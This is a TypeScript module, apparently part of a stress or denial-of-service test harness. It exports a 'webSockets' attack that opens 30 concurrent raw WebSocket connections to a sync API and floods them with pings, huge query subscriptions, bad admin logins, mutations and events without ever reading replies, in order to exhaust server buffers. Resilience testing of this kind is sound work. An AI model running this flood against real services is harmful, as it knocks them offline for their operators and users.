/** WebSockets that send pings, messages, queries and mutations, and never read. */
import { randomBytes } from "node:crypto";
import type { Attack } from "./attack";
import { open, sent } from "./connections";

/** Connections at the same time. */
const CLIENTS = 30;
const FRAMES = 200;

const handshake = () =>
  "GET /api/1.48.0/sync HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
  `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString("base64")}\r\n\r\n`;

const PING = 9;
const TEXT = 1;

/** Returns a client's frame, masked with zeros (RFC 6455, section 5.2). */
function frame(opcode: number, text: string): Buffer {
  const payload = Buffer.from(text);
  const size = Buffer.alloc(payload.length < 126 ? 1 : 9);
  if (size.length === 1) size[0] = 0x80 | payload.length;
  else {
    size[0] = 0x80 | 127;
    size.writeBigUInt64BE(BigInt(payload.length), 1);
  }
  return Buffer.concat([Buffer.from([0x80 | opcode]), size, Buffer.alloc(4), payload]);
}

/** Returns one message that subscribes to this number of queries, from version `base` of the query set. */
function subscribe(count: number, base = 0): string {
  const modifications = Array.from({ length: count }, (_, i) => ({
    ...{ type: "Add", queryId: base * count + i, udfPath: "_system/cli/tables", args: [{}] },
  }));
  return JSON.stringify({ type: "ModifyQuerySet", baseVersion: base, newVersion: base + 1, modifications });
}

/** Every connection begins with it. A valid session gets further into the server than an invalid message. */
const connect = JSON.stringify({ type: "Connect", sessionId: "abuse", connectionCount: 0, clientTs: 0 });

const authenticate = (baseVersion: number): string =>
  JSON.stringify({ type: "Authenticate", tokenType: "Admin", baseVersion, value: "wrong" });
const request = (type: "Mutation" | "Action", requestId: number): string =>
  JSON.stringify({ type, requestId, udfPath: "items:nothing", args: [{ text: "x".repeat(1_000) }] });

/** Returns a flood of messages that are valid the first time that it is sent on a connection. */
function session(count: number, message: (i: number) => string): Buffer {
  const texts = Array.from({ length: count }, (_, i) => message(i));
  return Buffer.concat(texts.map((text) => frame(TEXT, text)));
}

/** The bytes that the clients send repeatedly. */
const FLOODS: readonly Buffer[] = [
  repeated(frame(PING, "p".repeat(125)), FRAMES),
  session(FRAMES, (i) => subscribe(1, i)),
  session(8, (i) => subscribe(500, i)),
  session(FRAMES, authenticate),
  session(FRAMES, (i) => request("Mutation", i)),
  session(FRAMES, (i) => request("Action", i)),
  session(FRAMES, () => JSON.stringify({ type: "Event", eventType: "x", event: "x".repeat(1_000) })),
  frame(TEXT, subscribe(18_000).slice(0, 1_000_000)),
  repeated(frame(TEXT, "{}"), 20_000),
];

function repeated(bytes: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

export const webSockets: Attack = {
  name: "webSockets",
  about: `${CLIENTS} WebSockets at a time that send continuously and never read`,
  async run({ apiUrl }, until) {
    let connections = 0;
    let bytes = 0;
    const opened = new Set<ReturnType<typeof open>>();
    const client = async (first: number) => {
      for (let i = first; performance.now() < until; i++) {
        const socket = open(apiUrl);
        opened.add(socket);
        connections++;
        const flood = FLOODS[i % FLOODS.length] as Buffer;
        await sent(socket, Buffer.concat([Buffer.from(handshake()), frame(TEXT, connect)]));
        // Unread answers fill the buffers of the operating system, then those of the server.
        while (performance.now() < until && (await sent(socket, flood))) bytes += flood.length;
        socket.destroy();
        opened.delete(socket);
      }
    };
    const end = setTimeout(() => {
      for (const socket of opened) socket.destroy();
    }, until - performance.now());
    await Promise.all(Array.from({ length: CLIENTS }, (_, i) => client(i)));
    clearTimeout(end);
    return { connections, megabytes: Math.round(bytes / 1e6) };
  },
};
